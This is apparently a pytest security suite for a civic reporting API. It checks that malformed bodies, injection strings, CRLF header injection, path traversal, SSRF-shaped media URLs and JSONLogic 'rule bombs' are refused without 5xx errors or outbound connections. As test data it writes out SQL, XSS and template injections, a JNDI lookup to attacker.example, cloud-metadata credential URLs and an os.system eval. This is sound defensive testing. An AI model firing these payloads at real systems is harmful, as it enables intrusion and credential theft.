"""Hand-written hostile inputs across every route: deep and huge JSON, bodies that are not UTF-8 or not JSON, NUL
bytes, odd unicode and injection strings in every text field, CRLF aimed at response headers, path traversal in
every path parameter, SSRF-shaped media URLs, and JSONLogic rules built to explode in size, depth or work.

Each is answered with a 4xx (problem+json on /v1) or accepted as plain data; never a 5xx, never a header the
caller wrote, never another tenant's data, never an outbound connection.
"""

from __future__ import annotations

import base64
import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest

from koban.notifications import tokens
from koban.rules import RuleError, compile_rule
from koban_local.template import Route, Template
from koban_local.tokens import issue_open311_key
from tests.api import ApiClient, Reply, staff_claims
from tests.security import figures
from tests.security.faults import store_counts
from tests.security.world import KNOWN_CODE, Request, World, recipe_for

TENANT = "pilot-nl"
ADMIN = staff_claims(TENANT, "admin", f"admin-{TENANT}")
ROUTES = [
    route
    for route in Template.load(Path(__file__).resolve().parents[2] / "template.yaml").routes
    if route.method != "OPTIONS"
]

INJECTIONS = [
    "' OR '1'='1' --",
    '"; DROP TABLE reports; --',
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: injected=1",
    "nul\u0000byte",
    "bidi\u202eoverride\u202c",
    "zero\u200bwidth\u200djoiner\ufeff",
    "e\u0301" * 300,  # one letter with 300 combining accents
    "\U0001f46e\u200d\u2640\ufe0f\U0001f1f3\U0001f1f1 \u0645\u0631\u062d\u0628\u0627 \u4f60\u597d",
    "A" * 100_000,
    "line\r\nbreak",
    "\x1b[31mANSI\x1b[0m",
]
ROTATIONS = 6  # requests per route, each with other strings in its fields (all of them over the routes)
CRLF = "x\r\nSet-Cookie: injected=1\r\nX-Injected: yes"
TRAVERSALS = ["..", "..%2Fpilot-pl", "%2e%2e%2fpilot-pl", "..\\pilot-pl", "x%00.json", "pilot-pl%2F..%2F"]


@pytest.fixture(scope="module")
def world(api: ApiClient) -> Iterator[World]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(tokens, "new_code", lambda: KNOWN_CODE)
        yield World(api, TENANT)


def _prepared(route: Route, world: World) -> Request:
    recipe = recipe_for(route.method, route.path)
    assert recipe is not None
    return recipe(world, TENANT)


def _claims(route: Route) -> dict[str, str] | None:
    return ADMIN if route.authorizer else None


def _send(api: ApiClient, route: Route, request: Request, **changes: Any) -> Reply:
    parts = {
        "body": request.body,
        "raw_body": request.raw_body,
        "base64_body": request.base64_body,
        "query": request.query,
        "headers": {
            **request.headers,
            **({"X-Tracking-Token": request.tracking_token} if request.tracking_token else {}),
        },
    }
    parts.update(changes)
    reply = api.request(request.method, request.path, claims=_claims(route), **parts)
    figures.record("hostile_inputs")
    if reply.status >= 500:
        figures.record("server_errors")
    return reply


def _refused_or_plain(reply: Reply, path: str) -> str | None:
    """None when the answer is acceptable: below 500, and a /v1 refusal is problem+json."""
    if reply.status >= 500:
        return f"{reply.status}: {reply.body[:200]}"
    if (
        reply.status >= 400
        and path.startswith("/v1/")
        and reply.headers.get("Content-Type") != "application/problem+json"
    ):
        return f"{reply.status} without problem+json: {reply.headers.get('Content-Type')}"
    return None


def _with_strings(value: Any, replacements: Iterator[str]) -> Any:
    """`value` with each string leaf replaced by the next of `replacements`."""
    if isinstance(value, str):
        return next(replacements)
    if isinstance(value, dict):
        return {key: _with_strings(item, replacements) for key, item in value.items()}
    if isinstance(value, list):
        return [_with_strings(item, replacements) for item in value]
    return value


JSON_ROUTES = [route for route in ROUTES if route.method in ("POST", "PUT", "PATCH", "DELETE")]


@pytest.mark.parametrize("route", JSON_ROUTES, ids=[f"{r.method} {r.path}" for r in JSON_ROUTES])
def test_malformed_bodies_are_refused_before_anything_is_stored(route: Route, api: ApiClient, world: World) -> None:
    request = _prepared(route, world)
    json_type = {"Content-Type": "application/json"}
    hostile = {
        "deep JSON": {"raw_body": "[" * 5000 + "]" * 5000, "body": None},
        "huge JSON": {"raw_body": json.dumps({"text": "a" * 400_000}), "body": None},
        "not UTF-8": {"base64_body": base64.b64encode(b'{"text": "\xff\xfe\xed\xa0\x80"}').decode(), "body": None},
        "lone surrogate": {"raw_body": '{"text": "\\ud800"}', "body": None},
        "NaN and 1e999": {"raw_body": '{"version": NaN, "level": 1e999, "lat": Infinity}', "body": None},
        "not JSON": {"raw_body": "category=noise&description=x", "body": None},
        "JSON, said to be text": {"raw_body": json.dumps(request.body or {}), "body": None},
        "a PNG": {"base64_body": base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256))).decode(), "body": None},
    }
    problems: list[str] = []
    accepted, before = False, store_counts()
    for name, change in hostile.items():
        headers = {**request.headers, **json_type}
        if name == "JSON, said to be text":
            headers["Content-Type"] = "text/plain"
        if name == "a PNG":
            headers["Content-Type"] = "image/png"
        reply = _send(api, route, request, headers=headers, **change)
        wrong = _refused_or_plain(reply, request.path)
        if 200 <= reply.status < 300:
            # A route that ignores its body (a DELETE, the one-click unsubscribe) or takes an image
            accepted, request = True, _prepared(route, world)
        if wrong:
            problems.append(f"{name}: {wrong}")
    if not accepted and (after := store_counts()) != before:
        changed = {name: (before.get(name), count) for name, count in after.items() if before.get(name) != count}
        problems.append(f"every body was refused, yet something was stored: {changed}")
    assert not problems, "\n".join(problems)


_DOCUMENT = json.loads((Path(__file__).resolve().parents[2] / "functions/docs/openapi.json").read_text("utf-8"))
OBJECT_ROUTES = [
    route
    for route in JSON_ROUTES
    if "application/json"
    in _DOCUMENT["paths"].get(route.path, {}).get(route.method.lower(), {}).get("requestBody", {}).get("content", {})
]


@pytest.mark.parametrize("route", OBJECT_ROUTES, ids=[f"{r.method} {r.path}" for r in OBJECT_ROUTES])
def test_injection_strings_and_odd_unicode_in_every_text_field_are_refused_or_kept_as_data(
    route: Route, api: ApiClient, world: World
) -> None:
    problems = []
    request = _prepared(route, world)
    for rotation in range(ROTATIONS):
        # Each text field gets another hostile string, turn by turn
        strings = iter(INJECTIONS[(rotation * 3 + index) % len(INJECTIONS)] for index in range(10_000))
        reply = _send(api, route, request, body=_with_strings(request.body, strings))
        if 200 <= reply.status < 300:
            request = _prepared(route, world)  # accepted as data: the next turn gets a fresh resource
        wrong = _refused_or_plain(reply, request.path)
        if wrong:
            problems.append(f"turn {rotation}: {wrong}")
        elif reply.status < 400 and not reply.headers.get("Content-Type", "").startswith("application/json"):
            problems.append(f"turn {rotation}: answered as {reply.headers.get('Content-Type')}")
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("route", ROUTES, ids=[f"{r.method} {r.path}" for r in ROUTES])
def test_crlf_in_parameters_and_headers_never_reaches_a_response_header(
    route: Route, api: ApiClient, world: World
) -> None:
    request = _prepared(route, world)
    headers = {
        **request.headers,
        "Accept-Language": CRLF,
        "Idempotency-Key": CRLF,
        "If-Match": CRLF,
        "If-None-Match": CRLF,
        "X-Tracking-Token": CRLF,
    }
    query = {**(request.query or {}), "cursor": CRLF, "locale": CRLF, "format": CRLF}
    problems = []
    for attempt in ({"headers": headers}, {"query": query}):
        reply = _send(api, route, request, **attempt)
        if 200 <= reply.status < 300:
            request = _prepared(route, world)
        wrong = _refused_or_plain(reply, request.path)
        injected = [
            f"{k}: {v!r}" for k, v in reply.headers.items() if "\r" in v or "\n" in v or k.lower() == "x-injected"
        ]
        if wrong or injected or "set-cookie" in {name.lower() for name in reply.headers}:
            problems.append(f"{list(attempt)}: {wrong} {injected}")
    assert not problems, "\n".join(problems)


PARAMETER_ROUTES = [route for route in ROUTES if "{" in route.path]


@pytest.mark.parametrize("route", PARAMETER_ROUTES, ids=[f"{r.method} {r.path}" for r in PARAMETER_ROUTES])
def test_path_traversal_in_any_path_parameter_reaches_nothing(route: Route, api: ApiClient, world: World) -> None:
    parameters = [part.strip("{}") for part in route.path.split("/") if part.startswith("{")]
    problems = []
    request = _prepared(route, world)
    before = store_counts() if route.method != "GET" else None
    for parameter in parameters:
        for traversal in TRAVERSALS:
            # The prepared path with this one parameter replaced (positions follow the template's path)
            template_parts, parts = route.path.split("/"), request.path.split("/")
            index = template_parts.index("{" + parameter + "}")
            if len(parts) != len(template_parts):
                continue  # a recipe aimed at a fixed document (Open311): its own test covers it
            parts[index] = traversal
            reply = api.request(
                request.method,
                "/".join(parts),
                body=request.body,
                raw_body=request.raw_body,
                query=request.query,
                headers=request.headers,
                claims=_claims(route),
            )
            figures.record("hostile_inputs")
            wrong = _refused_or_plain(reply, request.path)
            if wrong or reply.status < 400:
                problems.append(f"{parameter}={traversal}: {reply.status} {wrong or reply.body[:120]}")
    if before is not None and store_counts() != before:
        problems.append("every attempt was refused, yet something was stored")
    assert not problems, "\n".join(problems)


SSRF_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "https://169.254.169.254/latest/meta-data/",
    "https://127.0.0.1:8000/v1/tenants",
    "https://localhost/admin",
    "https://[::1]/",
    "https://0x7f000001/",
    "https://2130706433/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO",
    "javascript:alert(document.domain)",
    "https://attacker.example@169.254.169.254/",
    "https://metadata.google.internal/computeMetadata/v1/",
]


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Any outbound connection the handlers try is refused and recorded (moto answers in-process). Only this
    thread's: the handlers run in it, while pollers of other tiers' local homes may still talk to their moto."""
    attempts: list[str] = []
    original = socket.socket.connect
    test_thread = threading.current_thread()

    def connect(self: socket.socket, address: Any) -> None:
        if threading.current_thread() is not test_thread:
            return original(self, address)
        attempts.append(str(address))
        raise ConnectionRefusedError(f"the tests allow no connection to {address}")

    monkeypatch.setattr(socket.socket, "connect", connect)
    return attempts


@pytest.mark.parametrize("url", SSRF_URLS)
def test_an_ssrf_shaped_media_url_is_refused_or_stored_unfetched(
    url: str, api: ApiClient, world: World, no_network: list[str]
) -> None:
    # When a client app posts it through Open311 and through /v1
    form = {
        "jurisdiction_id": TENANT,
        "api_key": issue_open311_key(TENANT),
        "service_code": "noise_night",
        "lat": str(world.lat),
        "long": str(world.lon),
        "description": "Loud music every night from the bar on the corner.",
        "media_url": url,
        "attribute[ongoing]": "true",
        "attribute[noise_source]": "music",
    }
    open311 = api.post(
        "/open311/v2/requests.json",
        raw_body=urlencode(form),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    v1 = api.post(f"/v1/tenants/{TENANT}/reports", body=world.report_body(media_urls=[url]))
    figures.record("hostile_inputs", 2)
    # Then it is refused (a URL that names no public https host), and in no case was anything fetched
    assert open311.status == 400, open311.body
    assert "media_url" in open311.body
    assert v1.status == 422, v1.body
    assert "media_urls.0" in [error["field"] for error in v1.json()["errors"]]
    assert no_network == []


def test_a_public_https_media_url_is_kept_as_a_link_and_never_fetched(
    api: ApiClient, world: World, no_network: list[str]
) -> None:
    reply = api.post(
        f"/v1/tenants/{TENANT}/reports", body=world.report_body(media_urls=["https://photos.example/x.jpg"])
    )
    assert reply.status == 201, reply.body
    staff = api.get(f"/v1/tenants/{TENANT}/reports/{reply.json()['id']}", claims=ADMIN).json()
    assert staff["media_urls"] == ["https://photos.example/x.jpg"]
    assert no_network == []


# -- JSONLogic ---------------------------------------------------------------------------------------------------

RULE_BOMBS: dict[str, Any] = {
    "nested 10,000 deep": None,  # built below: a Python dict this deep crashes the engine if not bounded first
    "100,000 nodes": {"and": [True] * 100_000},
    "1 MB of text": {"==": [{"var": "x"}, "a" * 1_000_000]},
    "doubling an array 40 times": {
        "reduce": [list(range(40)), {"merge": [{"var": "accumulator"}, {"var": "accumulator"}]}, [1]]
    },
    "doubling a string 40 times": {
        "reduce": [list(range(40)), {"cat": [{"var": "accumulator"}, {"var": "accumulator"}]}, "ab"]
    },
    "a million additions": {"map": [list(range(1000)), {"map": [list(range(1000)), {"+": [1, 1]}]}]},
    "unknown operator": {"eval": ["__import__('os').system('id')"]},
}


def _deep(depth: int) -> Any:
    rule: Any = True
    for _ in range(depth):
        rule = {"!": [rule]}
    return rule


@pytest.mark.parametrize("name", list(RULE_BOMBS))
def test_a_rule_built_to_explode_is_refused_quickly_by_the_engine(name: str) -> None:
    # A compromised plugin's rule file reaches the engine without the HTTP limits in front
    rule = _deep(10_000) if RULE_BOMBS[name] is None else RULE_BOMBS[name]
    started = time.monotonic()
    with pytest.raises(RuleError):
        compile_rule(rule).evaluate({"x": "a"})
    figures.record("hostile_inputs")
    assert time.monotonic() - started < 5


def _question_lists(document: Any) -> list[list[dict[str, Any]]]:
    """Every `questions` list of the draft (forms and report categories), the longest first."""
    found: list[list[dict[str, Any]]] = []
    if isinstance(document, dict):
        for key, value in document.items():
            if key == "questions" and isinstance(value, list):
                found.append(value)
            found.extend(_question_lists(value))
    elif isinstance(document, list):
        for value in document:
            found.extend(_question_lists(value))
    return sorted(found, key=len, reverse=True)


@pytest.mark.parametrize("name", list(RULE_BOMBS))
def test_an_app_condition_built_to_explode_is_a_finding_not_a_crash(name: str, api: ApiClient, world: World) -> None:
    # Given the App Factory draft with one of its questions' conditions replaced by the bomb
    draft, _ = world.draft()
    document = draft["document"]
    lists = _question_lists(document)
    assert lists, "the default draft has no form to put a question on"
    question = dict(lists[0][0]) if lists[0] else {"code": "probe", "type": "string", "label": document["name"]}
    question["visible_if"] = _deep(20) if RULE_BOMBS[name] is None else RULE_BOMBS[name]
    lists[0].append({**question, "code": "security_probe"})
    # When an admin validates it
    started = time.monotonic()
    reply = api.post(f"/v1/tenants/{TENANT}/app-config/validate", body=document, claims=ADMIN)
    figures.record("hostile_inputs")
    # Then it is refused or reported as a finding, quickly, never a 5xx
    assert reply.status < 500, reply.body
    assert time.monotonic() - started < 10
    if reply.status == 200:
        report = reply.json()
        assert not report["publishable"], reply.body[:300]
        probe = f"questions.{len(lists[0]) - 1}.visible_if"
        assert any(probe in finding["path"] for finding in report["findings"]), reply.body[:300]


def test_a_static_file_path_that_climbs_out_of_its_folder_is_not_served(repo_root: Path) -> None:
    from koban_local.gateway import GatewayError, LocalGateway

    dist = repo_root / "infrastructure" / "web" / "dist" / "public"
    gateway = LocalGateway.__new__(LocalGateway)
    gateway.static_roots = {"/public/": dist.resolve()}
    for path in [
        "/public/../../../../etc/passwd",
        "/public/%2e%2e/%2e%2e/etc/passwd",
        "/public/..%2F..%2Fpyproject.toml",
    ]:
        figures.record("hostile_inputs")
        with pytest.raises(GatewayError) as refused:
            gateway._static_reply("GET", path, "")
        assert refused.value.status == 404, quote(path)
